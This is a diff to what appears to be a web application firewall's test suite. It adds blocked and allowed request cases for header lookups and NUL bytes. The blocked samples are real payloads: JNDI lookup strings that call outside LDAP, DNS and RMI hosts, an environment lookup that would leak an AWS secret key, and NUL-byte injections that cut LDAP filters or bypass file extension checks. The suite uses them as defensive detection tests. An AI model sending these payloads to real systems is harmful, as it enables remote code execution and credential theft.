@@ -50,6 +50,10 @@ def form(body: str, query: str = "", method: str = "POST") -> WafRequest:
     return req(method, query=query, headers=(("Content-Type", FORM),), body=body.encode())
 
 
+def json_body(text: str, media_type: str = "application/json") -> WafRequest:
+    return req("POST", "/api", headers=(("Content-Type", media_type),), body=text.encode(), base=CURL)
+
+
 def multipart(name: str, value: str, method: str = "POST") -> WafRequest:
     body = f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n--b--\r\n'.encode()
     return req(method, headers=(("Content-Type", "multipart/form-data; boundary=b"),), body=body)
@@ -171,6 +175,39 @@ VALUE_CASES: dict[str, tuple[list[WafRequest], list[WafRequest]]] = {
             req(query="filter%7Cstatus=open"),
             req(query=";lang=en"),
             form("x=Tom+%26%26+Jerry&id=3"),
+        ],
+    ),
+    "BrowserHeaderLookup": (
+        [
+            req(headers=(("Cache-Control", "${jndi:dns://dns.example.net/a1b2.l}"),)),
+            req(headers=(("DNT", "${jndi:ldap://203.0.113.9:1389/a}"),)),
+            req(headers=(("Pragma", "${${lower:j}ndi:rmi://x/y}"),)),
+            req(headers=(("TE", "${env:AWS_SECRET_ACCESS_KEY}"),)),
+            req(base=(("Host", "a.example"), ("Accept", "${jndi:ldap://x/a}"))),
+            req(base=(("Host", "a.example"), ("Accept-Language", "en-US,${jndi:dns://x/a}"))),
+        ],
+        [
+            req(headers=(("Cache-Control", "max-age=0, no-cache"), ("Pragma", "no-cache"), ("DNT", "1"), ("TE", "trailers"))),
+            req(base=(("Host", "a.example"), ("Accept", "application/json, text/plain, */*"), ("Accept-Language", "de-CH,de;q=0.9,fr;q=0.7"))),
+            req(headers=(("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Mode", "navigate"), ("Priority", "u=0, i"))),
+            req(headers=(("Sec-CH-UA", '"Chromium";v="124", "Not-A.Brand";v="99"'), ("Accept-Encoding", "gzip, deflate, br, zstd"))),
+        ],
+    ),
+    "NulInArgument": (
+        [
+            form("uid=%29%29%00nosuchvalue"),  # an LDAP filter closed and cut
+            form("file=report.pdf%00.php&x=1"),
+            form("q=a%2500b"),  # double encoded
+            form("uid=*%29%29%u0000x"),  # IIS's %u form
+            json_body('{"user": "*))\\u0000admin"}'),
+            json_body('{"filter": {"name": "x\\u0000"}}', "application/vnd.api+json"),
+        ],
+        [
+            form("q=printf+%25s&note=100%25"),  # a typed percent sign
+            form("amount=1000&memo=ref+00123"),
+            json_body('{"n": "\\u00e9t\\u00e9", "sep": "\\u0009", "dash": "\\u2014"}'),  # escaped letters, a tab
+            json_body('{"blob": "AAAAAA==", "id": "u0000"}'),
+            req("POST", "/upload", headers=(("Content-Type", "text/plain"),), body=b"a\\u0000b %00"),  # not a form, not JSON
         ],
     ),
 }
